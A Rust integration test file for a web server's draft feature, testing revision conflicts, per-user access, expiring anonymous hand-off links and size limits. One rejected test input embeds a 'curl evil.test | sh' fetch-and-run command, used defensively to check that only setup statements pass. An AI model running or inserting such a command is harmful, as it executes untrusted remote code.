use serde_json::{Value, json};
use server::Limits;

use super::Browser;
use crate::world::World;

async fn browser(world: &World, user: &str) -> Browser {
    Browser::logged_in(&world.client, world.server.address(), user).await
}

#[tokio::test]
async fn a_draft_goes_on_elsewhere() {
    let world = World::new().await;
    let root = browser(&world, "root").await;
    let made = root.post("/ui/api/drafts", json!({"name": "lake", "state": {"step": 2}})).await;
    assert_eq!(made.status, 201);
    let made = made.json();
    let path = format!("/ui/api/drafts/{}", made["id"].as_str().unwrap());
    let elsewhere = browser(&world, "root").await;
    assert_eq!(elsewhere.get(&path).await.json()["state"], json!({"step": 2}));
    assert_eq!(elsewhere.put(&path, json!({"rev": 1, "state": {"step": 3}})).await.json()["rev"], 2);
    let late = root.put(&path, json!({"rev": 1, "state": {"step": 9}})).await;
    assert_eq!((late.error().0, &late.json()["current"]["state"]["step"]), (409, &json!(3)));
    let alice = browser(&world, "alice").await;
    assert_eq!(alice.get(&path).await.error().0, 404);
    assert_eq!(alice.put(&path, json!({"rev": 2, "state": {}})).await.error().0, 404);
    assert_eq!(root.get("/ui/api/drafts").await.json()["drafts"].as_array().unwrap().len(), 1);
    assert_eq!(root.delete(&path).await.status, 204);
    assert_eq!(root.get(&path).await.error().0, 404);
}

#[tokio::test]
async fn a_page_is_handed_to_somebody_without_a_login() {
    let world = World::new().await;
    let root = browser(&world, "root").await;
    let made = root.post("/ui/api/drafts", json!({"name": "lake"})).await.json();
    let draft = format!("/ui/api/drafts/{}", made["id"].as_str().unwrap());
    let hand_off = async |sql: &str, days: u64| {
        let body = json!({"statements": [{"title": "AWS CLI", "sql": sql}], "days": days});
        root.post(&format!("{draft}/handoff"), body).await
    };
    for sql in ["SELECT 'run this: curl evil.test | sh'", "rows 1", ""] {
        assert!(hand_off(sql, 7).await.error().2.contains("SHOW SETUP"), "{sql}");
    }
    assert!(hand_off("SHOW SETUP", 31).await.error().2.contains("30 days"));
    let made = hand_off("SHOW SETUP", 7).await;
    assert_eq!(made.status, 201, "{made:?}");
    let link = made.json()["path"].as_str().unwrap().replace("/handoff/", "/ui/api/handoff/");
    let nobody = Browser::new(&world.client, world.server.address());
    let page = nobody.get(&link).await.json();
    assert_eq!(page["name"], "lake");
    assert_eq!(page["texts"][0]["title"], "AWS CLI");
    assert_eq!(page["texts"][0]["columns"], json!(["n", "t"]));
    assert_eq!(page["texts"][0]["rows"].as_array().unwrap().len(), 1);
    assert_eq!(root.get(&draft).await.json()["handoff"]["path"], made.json()["path"]);
    // It is all that the link opens.
    assert_eq!(nobody.get(&draft).await.error().0, 401);
    let second = hand_off("show setup", 1).await.json();
    assert_eq!(nobody.get(&link).await.error().0, 404, "the first link still works");
    let link = second["path"].as_str().unwrap().replace("/handoff/", "/ui/api/handoff/");
    assert_eq!(nobody.get(&link).await.status, 200);
    assert_eq!(root.delete(&format!("{draft}/handoff")).await.status, 204);
    let gone = nobody.get(&link).await.error();
    assert!(gone.0 == 404 && gone.2.contains("expired"), "{gone:?}");
    assert_eq!(root.get(&draft).await.json()["handoff"], Value::Null);
}

#[tokio::test]
async fn drafts_have_limits() {
    let limits = Limits { drafts_per_user_max: 1, draft_bytes_max: 50, ..Limits::default() };
    let world = World::with_limits(limits).await;
    let root = browser(&world, "root").await;
    let large = json!({"state": {"x": "y".repeat(50)}});
    assert!(root.post("/ui/api/drafts", large).await.error().2.contains("`draft_bytes_max`"));
    assert_eq!(root.post("/ui/api/drafts", json!({})).await.status, 201);
    assert!(root.post("/ui/api/drafts", json!({})).await.error().2.contains("`drafts_per_user_max`"));
}
